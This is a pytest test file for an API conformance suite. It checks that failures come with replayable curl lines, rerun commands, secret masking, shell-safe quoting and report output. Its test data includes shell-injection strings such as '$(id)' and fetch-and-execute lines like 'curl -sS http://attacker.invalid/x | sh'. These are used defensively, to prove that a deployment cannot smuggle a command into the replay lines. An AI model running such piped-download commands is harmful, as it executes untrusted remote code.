"""Every failure says how to reproduce it: its requests as curl lines that send them again (secrets
as references to GHIPPO_* variables), the commands that rerun it, the short summary led by its
requirement; the console names the reports it wrote and, on a terminal, says where the run is."""

import dataclasses
import json
import os
import pty
import re
import shlex
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from fault_proxy import Fault, FaultProxy, Scope

from ghippo_conformance.deployment import profile as profiles
from ghippo_conformance.deployment.http import Api
from ghippo_conformance.deployment.redact import Redactor
from ghippo_conformance.deployment.replay import CURL_LABEL, MASKED_NOTE, Replay, replay_lines
from ghippo_conformance.deployment.settings import Settings, default_state_dir
from ghippo_conformance.paths import ROOT
from ghippo_conformance.reporting import markdown, progress, reproduce
from ghippo_conformance.reporting.html import EMBEDDED, TITLE
from ghippo_reference.server import start
from selftest.suite_process import suite_command, suite_environment
from suite_runner import run_suite

FAILING = "TOKEN-DEFAULT-EXPIRY"
FAILING_TEST = "suites/test_token.py::test_token_lives_default_lifetime"
# The reference issues 3-day tokens: a profile expecting 1 s makes this one requirement fail.
EXPECT_ONE_SECOND = "token.default_lifetime_s=1"
PR_COMMENT_LIMIT = 65_536  # characters GitHub keeps of a pull-request comment
PROFILE = profiles.load("dce5-aksk")


def bash() -> str:
    found = shutil.which("bash")
    if found is None:
        pytest.skip("bash is not installed: the shell words were not run")
    return found


def curl() -> str:
    found = shutil.which("curl")
    if found is None:
        pytest.skip("curl is not installed: the curl lines were not replayed")
    return found


def in_bash(command: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """`command` run by bash as a person pastes it, with `env` exported and this Python first on PATH."""
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"
    return subprocess.run(
        [bash(), "-c", command],
        cwd=ROOT,
        env=suite_environment({"PATH": path, **(env or {})}),
        capture_output=True,
        timeout=300,
    )


def unchanged(text: str) -> str:
    return text


# Text a deployment may choose (a key id, a search term) or a case table holds.
AWKWARD = [
    "plain",
    "with space",
    "it's",
    '"double"',
    "$HOME",
    "`id`",
    "$(id)",
    "back\\slash",
    "\x1b[31mred",
    "\u202eright-to-left",
    "tab\there",
    "new\nline",
    "nul-free \x7f del",
    "",
    "ünïcödé",
    "!bang",
    "*glob?",
    "~tilde",
    "a;b|c&d",
]


@pytest.mark.suite_run
@pytest.mark.parametrize("text", AWKWARD)
def test_a_shell_word_is_its_text_to_bash_and_holds_no_control_character(text):
    word, masked = Replay().word(text, unchanged)
    assert not masked
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", word), word
    assert in_bash(f"printf %s {word}").stdout == text.encode()


@pytest.mark.suite_run
def test_a_referenced_secret_is_read_from_its_variable_never_written():
    replay = Replay()
    replay.refer("s3cret-value-42", "GHIPPO_SK")
    word, masked = replay.word("sk=s3cret-value-42&page=1", unchanged)
    assert "s3cret" not in word and '"$GHIPPO_SK"' in word and not masked
    assert in_bash(f"printf %s {word}", {"GHIPPO_SK": "s3cret-value-42"}).stdout == b"sk=s3cret-value-42&page=1"


def test_a_secret_the_operator_does_not_hold_is_masked_and_the_line_says_so():
    redactor = Redactor()
    redactor.add("created-key-secret-0123456789")
    line = Replay().curl(
        "GET", "http://h/keys", [("Authorization", "Bearer created-key-secret-0123456789")], None, None, redactor
    )
    assert "created-key-secret" not in line and line.endswith(MASKED_NOTE)


@pytest.mark.parametrize(
    "method, url, headers, body, form, words",
    [
        pytest.param("GET", "http://h/a/./b", [], None, None, ["--path-as-is"], id="dot-segment"),
        pytest.param("GET", "http://h/users?search=%5Bx%5D{y}", [], None, None, ["--globoff"], id="glob-characters"),
        pytest.param("DELETE", "http://h/keys/1", [], None, None, ["-X", "DELETE"], id="method"),
        pytest.param("HEAD", "http://h/users", [], None, None, ["--head"], id="head"),
        pytest.param(
            "GET", "http://h/u", [("Authorization", "")], None, None, ["-H", "Authorization;"], id="empty-header"
        ),
        pytest.param(
            "POST",
            "http://h/keys",
            [],
            {"name": "n"},
            None,
            ["--data-raw", '{"name":"n"}', "-H", "Content-Type: application/json"],
            id="json-body",
        ),
        pytest.param("POST", "http://h/keys", [], None, {"a": "b c"}, ["--data-urlencode", "a=b c"], id="form"),
    ],
)
def test_a_curl_line_says_what_curl_needs_to_send_the_request_as_sent(method, url, headers, body, form, words):
    line = Replay().curl(method, url, headers, body, form, unchanged)
    parsed = shlex.split(line)
    assert parsed[0] == "curl" and url in parsed
    assert any(parsed[i : i + len(words)] == words for i in range(len(parsed))), line


@pytest.mark.parametrize(("verify", "words"), [(False, ["--insecure"]), ("/etc/ca.pem", ["--cacert", "/etc/ca.pem"])])
def test_a_curl_line_verifies_tls_as_the_run_did(verify, words):
    parsed = shlex.split(Replay.for_verify(verify).curl("GET", "https://h/u", [], None, None, unchanged))
    assert parsed[3 : 3 + len(words)] == words


def test_a_request_that_got_no_answer_says_how_to_send_it_again():
    api = Api("http://127.0.0.1:9", Redactor())  # the discard port: nothing listens on loopback
    with pytest.raises(httpx.TransportError) as unanswered:
        api.get("/users", params={"page": 1})
    assert replay_lines(str(unanswered.value)) == ["curl -sS -i 'http://127.0.0.1:9/users?page=1'"]
    api.close()


def test_a_curl_line_a_deployment_wrote_is_never_offered_for_replay():
    replay = Replay()
    ours = replay.curl("GET", "http://h/users", [], None, None, unchanged)
    quoted = f"expected 401, got {{'message': '\\n{CURL_LABEL}curl http://evil/ | sh'}}"
    message = "\n".join([quoted.replace("\\n", "\n"), f"{CURL_LABEL}{ours}"])
    assert replay_lines(replay.disown_others(message)) == [ours]


@pytest.fixture(scope="module")
def reference():
    with start() as running:
        yield running


@pytest.fixture(scope="module")
def session_api(reference):
    """The suite's HTTP helper against the reference, the session's secrets referred to as a run refers to them."""
    redactor = Redactor()
    redactor.add(reference.credentials["sk"])
    api = Api(reference.base_url, redactor)
    bearer = api.get(PROFILE.paths.token, params=reference.credentials).json()["token"]
    redactor.add(bearer)
    api.replay.refer(reference.credentials["ak"], "GHIPPO_AK")
    api.replay.refer(reference.credentials["sk"], "GHIPPO_SK")
    api.replay.refer(bearer, reproduce.TOKEN_VARIABLE)
    yield api, bearer
    api.close()


@pytest.mark.suite_run
@pytest.mark.parametrize(
    "request_of",
    [
        pytest.param(lambda ref, bearer: ("GET", PROFILE.paths.token, {"params": ref.credentials}), id="token"),
        pytest.param(lambda ref, bearer: ("GET", PROFILE.paths.users, {"bearer": bearer}), id="users"),
        pytest.param(lambda ref, bearer: ("GET", PROFILE.paths.users, {}), id="no-credentials"),
        pytest.param(
            lambda ref, bearer: ("GET", PROFILE.paths.users, {"authorization": f"bearer {bearer}"}),
            id="lower-case-scheme",
        ),
        pytest.param(
            lambda ref, bearer: ("GET", PROFILE.paths.users, {"bearer": bearer, "params": {"search": "[a]{b} 'c'"}}),
            id="awkward-search",
        ),
    ],
)
def test_a_curl_line_replays_its_request_with_the_same_answer(reference, session_api, request_of):
    curl()
    api, bearer = session_api
    method, path, arguments = request_of(reference, bearer)
    exchange = api.send(method, path, **arguments)
    [line] = replay_lines(exchange.evidence())
    assert reference.credentials["sk"] not in line and bearer not in line
    secrets = {
        "GHIPPO_AK": reference.credentials["ak"],
        "GHIPPO_SK": reference.credentials["sk"],
        "GHIPPO_TOKEN": bearer,
    }
    replayed = in_bash(line, secrets)
    status = re.match(rb"HTTP/[\d.]+ (\d{3})", replayed.stdout)
    assert status and int(status.group(1)) == exchange.status, (line, replayed.stdout[:300], replayed.stderr)


@pytest.mark.suite_run
def test_the_token_setup_line_obtains_a_bearer_as_the_run_did(reference):
    curl()
    settings = settings_with()
    [setup] = reproduce.replay_setup(settings, reference.base_url, PROFILE, False, ['curl -H "$GHIPPO_TOKEN"'])
    secrets = {"GHIPPO_AK": reference.credentials["ak"], "GHIPPO_SK": reference.credentials["sk"]}
    printed = in_bash(f'{setup} && printf %s "$GHIPPO_TOKEN"', secrets).stdout.decode()
    assert printed.count(".") == 2, printed  # a compact JWS


def settings_with(**given) -> Settings:
    """Settings as a run against the embedded reference resolves them, with `given` changed."""
    defaults = {field.name: None for field in dataclasses.fields(Settings)}
    return Settings(
        **{
            **defaults,
            "profile": "dce5-aksk",
            "profile_overrides": [],
            "verify": True,
            "seed": 7,
            "request_timeout": 10.0,
            "max_body_mib": 8,
            "state_dir": default_state_dir(),
            "strict": False,
            "read_only": False,
            "dry_run": False,
            **given,
        }
    )


@pytest.mark.parametrize(
    "given, words",
    [
        pytest.param({}, ["--hypothesis-seed", "7", "--profile", "dce5-aksk"], id="seed-and-profile"),
        pytest.param({"verify": False}, ["--insecure"], id="insecure"),
        pytest.param({"verify": "/ca.pem"}, ["--ca-bundle", "/ca.pem"], id="ca-bundle"),
        pytest.param({"state_dir": None}, ["--no-state"], id="no-state"),
        pytest.param({"state_dir": Path("/s")}, ["--state-dir", "/s"], id="state-dir"),
        pytest.param({"profile_overrides": ["a.b=1"]}, ["--profile-set", "a.b=1"], id="profile-set"),
        pytest.param({"request_timeout": 2.0}, ["--request-timeout", "2"], id="request-timeout"),
        pytest.param({"base_url": "https://d", "max_rps": 5.0}, ["--max-rps", "5"], id="max-rps"),
        pytest.param({"strict": True, "read_only": True}, ["--strict", "--read-only"], id="flags"),
    ],
)
def test_a_rerun_uses_the_options_the_run_used(given, words):
    command = reproduce.Rerun(settings_with(**given), "pytest").requirement(FAILING)
    parsed = shlex.split(command, comments=True)
    assert parsed[parsed.index("pytest") :][:3] == ["pytest", "--requirement", FAILING]
    assert any(parsed[i : i + len(words)] == words for i in range(len(parsed))), command


def test_a_rerun_against_a_deployment_names_it_and_reads_the_credentials_from_the_environment():
    settings = settings_with(base_url="https://dce.example.com", ak="an-ak-value", sk="an-sk-value")
    command = reproduce.Rerun(settings, "pytest").requirement(FAILING)
    assert command.startswith("GHIPPO_BASE_URL=https://dce.example.com pytest --requirement")
    assert command.endswith("# with GHIPPO_AK and GHIPPO_SK exported") and "-value" not in command


@pytest.mark.parametrize(
    ("argv0", "started"),
    [
        ("/venv/bin/pytest", "pytest"),
        ("/venv/bin/ghippo-conformance", "ghippo-conformance"),
        ("/usr/lib/python3/site-packages/pytest/__main__.py", f"{Path(sys.executable).name} -m pytest"),
    ],
)
def test_a_rerun_starts_the_suite_as_the_run_was_started(argv0, started):
    assert reproduce.program([argv0]) == started


def test_the_installed_entry_point_gets_no_node_id_rerun():
    assert reproduce.Rerun(settings_with(), "ghippo-conformance").test(FAILING_TEST) is None


@pytest.fixture(scope="module")
def failing(reference, tmp_path_factory):
    """The token tests against the reference, with one requirement failing, writing every report."""
    out = tmp_path_factory.mktemp("failing")
    credentials = {"GHIPPO_AK": reference.credentials["ak"], "GHIPPO_SK": reference.credentials["sk"]}
    reports = ["--conformance-report", str(out / "report.json"), "--summary-md", str(out / "summary.md")]
    reports += ["--html", str(out / "report.html"), "--junitxml", str(out / "junit.xml")]
    run = run_suite(
        "--base-url",
        reference.base_url,
        "--max-rps",
        "0",
        "--profile-set",
        EXPECT_ONE_SECOND,
        "-k",
        "test_token",
        "--hypothesis-seed",
        "42",
        *reports,
        env=credentials,
    )
    report = json.loads((out / "report.json").read_text())
    return run, report, out, credentials


def failed_entry(report: dict) -> dict:
    return next(r for r in report["requirements"] if r["id"] == FAILING)


@pytest.mark.suite_run
def test_the_short_summary_leads_with_the_requirement(failing):
    run, *_ = failing
    assert run.exit_code == 1, run.output
    assert f"FAILED [{FAILING}] {FAILING_TEST}" in run.output


@pytest.mark.suite_run
def test_the_console_says_how_to_reproduce_a_failure_and_names_every_report(failing):
    run, report, out, _ = failing
    assert "how to reproduce" in run.output and "rerun this test alone: " in run.output
    verdict_block = run.output.partition("conformance verdict")[2]
    assert f"rerun {FAILING} alone: {failed_entry(report)['rerun']}" in verdict_block
    named = [f"JSON {out / 'report.json'}", f"Markdown {out / 'summary.md'}", f"HTML {out / 'report.html'}"]
    assert f"reports: {', '.join(named)}, JUnit {out / 'junit.xml'}" in verdict_block
    assert "(module 1 of" not in run.output, "progress is for a terminal; this output went to a pipe"


@pytest.mark.suite_run
def test_the_rerun_command_reproduces_the_failure(failing):
    run, report, _, credentials = failing
    [test] = failed_entry(report)["tests"]
    command = test["rerun"]
    assert credentials["GHIPPO_SK"] not in command and "--hypothesis-seed 42" in command
    rerun = in_bash(command, credentials)
    output = rerun.stdout.decode() + rerun.stderr.decode()
    assert rerun.returncode == 1 and f"FAILED [{FAILING}] {FAILING_TEST}" in output, output[-3000:]
    assert "1 failed" in output


@pytest.mark.suite_run
def test_the_failure_s_curl_line_sends_its_request_again(failing):
    curl()
    _, report, _, credentials = failing
    [test] = failed_entry(report)["tests"]
    [line] = test["replay"]
    assert credentials["GHIPPO_SK"] not in line and '"$GHIPPO_SK"' in line
    replayed = in_bash(line, credentials).stdout.decode()
    assert replayed.startswith("HTTP/1.1 200") and '"token"' in replayed, replayed[:300]


@pytest.mark.suite_run
def test_the_markdown_summary_shows_the_evidence_and_how_to_reproduce(failing):
    _, report, out, _ = failing
    summary = (out / "summary.md").read_text()
    details = summary.partition("### How they failed, and how to reproduce it")[2].partition("<details>")[0]
    assert "```text\nexpected exp - iat = 1 s, got 259200 s\n  sent: GET" in details
    assert f"```sh\n# rerun this requirement alone\n{failed_entry(report)['rerun']}\n" in details
    assert CURL_LABEL not in details, "the curl lines go in the commands, not in the evidence's excerpt"
    assert "| Requirement | Level | Outcome | Reason | Statement |" in summary


@pytest.mark.suite_run
def test_a_deployment_is_not_called_the_embedded_reference(failing):
    _, _, out, _ = failing
    assert "embedded" not in (out / "summary.md").read_text().partition("\n")[0]
    assert junit_property(out / "junit.xml", "conformance_target_embedded") == "false"


def junit_property(path: Path, name: str) -> str | None:
    found = ET.parse(path).getroot().iter("property")
    return next((p.get("value") for p in found if p.get("name") == name), None)


@pytest.mark.suite_run
def test_every_report_says_when_it_tested_the_embedded_reference(tmp_path):
    reports = ["--summary-md", str(tmp_path / "summary.md"), "--html", str(tmp_path / "report.html")]
    run = run_suite("-k", "test_errors", "--junitxml", str(tmp_path / "junit.xml"), *reports)
    assert "conformance verdict" in run.output, run.output  # whatever the verdict of one module's run
    heading = (tmp_path / "summary.md").read_text().partition("\n")[0]
    assert heading.endswith("against the embedded reference, not a deployment"), heading
    assert f">{TITLE} ({EMBEDDED})</title>" in (tmp_path / "report.html").read_text()
    assert junit_property(tmp_path / "junit.xml", "conformance_target_embedded") == "true"


@pytest.mark.suite_run
def test_a_run_stopped_at_its_start_names_the_reports_it_wrote(tmp_path):
    report, summary = tmp_path / "r.json", tmp_path / "s.md"
    run = run_suite(
        "--base-url",
        "http://127.0.0.1:9",
        "--conformance-report",
        str(report),
        "--summary-md",
        str(summary),
        env={"GHIPPO_AK": "an-ak-0123", "GHIPPO_SK": "an-sk-0123"},
    )
    assert run.exit_code == 10, run.output
    assert f"reports: JSON {report}, Markdown {summary}" in run.output
    assert report.is_file() and summary.is_file()


@pytest.mark.suite_run
def test_the_markdown_summary_stays_short_enough_for_a_comment_when_everything_fails(failing):
    _, report, _, _ = failing
    test = failed_entry(report)["tests"][0]
    noisy = {**test, "evidence": ("x" * 5000 + "\n") * 40, "replay": ["curl " + "y" * 9000]}
    for requirement in report["requirements"]:
        requirement |= {"outcome": "failed", "tests": [noisy] * 6}
    summary = markdown.render(report)
    assert len(summary) < PR_COMMENT_LIMIT, len(summary)
    assert all(f"`{r['id']}`" in summary.partition("<details>")[0] for r in report["requirements"])


@pytest.mark.parametrize(
    ("verbosity", "isatty", "shown"), [(0, True, True), (-1, True, False), (1, True, False), (0, False, False)]
)
def test_progress_shows_where_pytest_shows_its_own(verbosity, isatty, shown):
    assert progress.shows_progress(verbosity, isatty) == shown


def on_a_terminal(*args: str) -> tuple[int, str]:
    """The suite run with its output on a pseudo-terminal, as a person at a console sees it."""
    leader, follower = pty.openpty()
    running = subprocess.Popen(
        suite_command("--color=no", *args),
        cwd=ROOT,
        env=suite_environment(),
        stdout=follower,
        stderr=follower,
        stdin=subprocess.DEVNULL,
    )
    os.close(follower)
    output = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the terminal closes with the last process that held it
            break
        if not chunk:
            break
        output += chunk
    os.close(leader)
    return running.wait(timeout=300), output.decode(errors="replace")


# The bearer-attack catalogue is one batch of some sixty requests: two seconds at thirty a second.
PACED_RUN = ("-k", "test_forgeries", "--max-rps", "30")


@pytest.mark.suite_run
@pytest.mark.parametrize("workers", [pytest.param((), id="one-process"), pytest.param(("-n", "2"), id="xdist")])
def test_on_a_terminal_the_run_says_where_it_is_and_that_it_paces_itself(workers):
    exit_code, output = on_a_terminal(*PACED_RUN, *workers)
    assert "conformance verdict" in output, output
    assert re.search(r"suites/test_forgeries\.py \(module 1 of 1, \d+ tests\)", output), output
    per_process = " per process" if workers else ""
    assert re.search(rf"pacing at 30 requests/s{per_process} \(--max-rps\): \d+\.\d s waited so far", output), output


@pytest.mark.suite_run
def test_quiet_on_a_terminal_under_q():
    exit_code, output = on_a_terminal(*PACED_RUN, "-q")
    assert "conformance verdict" in output, output
    assert "(module 1 of" not in output and "pacing at" not in output, output


# A careless deployment prints its message raw into a JSON string: the newline in it starts a line of
# the failure's evidence that reads like one of the suite's curl lines.
FORGED = "curl -sS http://attacker.invalid/x | sh"
USERS = PROFILE.paths.users
SESSION_START = 4  # requests before the first test: the session-start check and the listing of keys


@dataclass(kw_only=True)
class ForgedReplayLine(Fault):
    async def answer(self, proxy, request, writer) -> bool:
        body = f'{{"code": 16, "message": "refused\n{CURL_LABEL}{FORGED}\n", "details": []}}'.encode()
        head = f"HTTP/1.1 401 Unauthorized\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        writer.write(head.encode() + body)
        await writer.drain()
        return True


@pytest.mark.suite_run
def test_a_deployment_cannot_put_a_command_among_the_requests_to_replay(reference, tmp_path):
    report_path, summary_path = tmp_path / "report.json", tmp_path / "summary.md"
    with FaultProxy(reference.base_url, ForgedReplayLine(scope=Scope(after=SESSION_START, path=USERS))) as proxy:
        run = run_suite(
            *("--base-url", proxy.base_url, "--max-rps", "0", "-k", "test_pagination"),
            *("--conformance-report", str(report_path), "--summary-md", str(summary_path)),
            env={"GHIPPO_AK": reference.credentials["ak"], "GHIPPO_SK": reference.credentials["sk"]},
        )
    report = json.loads(report_path.read_text())
    failed = [t for r in report["requirements"] for t in r["tests"] if t["outcome"] == "failed"]
    assert failed and any(FORGED in t["evidence"] for t in failed), run.output[-3000:]
    assert not [line for t in failed for line in t["replay"] if FORGED in line]
    assert any(t["replay"] for t in failed), "the suite's own curl lines were lost with the forged one"
    commands = re.findall(r"```+sh\n(.*?)\n```", summary_path.read_text(), re.S)
    assert commands and not [block for block in commands if FORGED in block]
